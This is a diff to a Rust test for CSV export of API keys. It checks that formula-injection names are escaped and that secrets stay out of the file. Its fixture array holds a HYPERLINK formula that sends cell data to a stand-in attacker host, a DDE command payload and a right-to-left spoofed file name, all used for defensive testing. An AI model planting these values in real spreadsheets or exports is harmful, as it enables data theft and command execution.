@@ -9,13 +9,14 @@ use serde_json::{Value, json};
 use super::browser::Browser;
 
 /// What somebody may call a thing: text that spreadsheets, CSV or a reader could take for something else.
-const HOSTILE: [&str; 8] = [
+const HOSTILE: [&str; 9] = [
     "=HYPERLINK(\"https://evil.example/?\"&A1)",
     "+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(1)",
     "＝1+1",
     "a,\"b\";c",
+    "a;=1+1;b",
     "\u{202e}fdp.exe",
     "🔑 été",
 ];
@@ -83,14 +84,15 @@ async fn keys_are_downloaded_as_they_are_listed_and_no_name_is_a_formula() {
     begins_no_formula(&read);
     let names = column(&read, "name");
     let mut expected = HOSTILE.map(|name| {
-        if name.starts_with(['=', '+', '-', '@', '＝']) { format!("'{name}") } else { name.to_owned() }
+        let begins = name.starts_with(['=', '+', '-', '@', '＝']);
+        if begins { format!("'{name}") } else { name.replace(";=", ";'=") }
     });
     expected.reverse();
     assert_eq!(names, expected, "newest first, each as it was written");
-    let description = &column(&read, "description")[7];
+    let description = &column(&read, "description")[8];
     assert_eq!(description, &format!("'{}\nand a second line", HOSTILE[0]));
     assert_eq!(column(&read, "allowed_networks")[0], "203.0.113.0/24 2001:db8::/32");
-    assert_eq!(column(&read, "created_at")[7], "2026-11-23T12:00:01.000Z");
+    assert_eq!(column(&read, "created_at")[8], "2026-11-23T12:00:01.000Z");
     assert_eq!(column(&read, "expires_at")[0], "2027-01-01T00:00:00.000Z");
     assert!(secrets.iter().all(|secret| !file.answer.text().contains(secret.as_str())));
 }
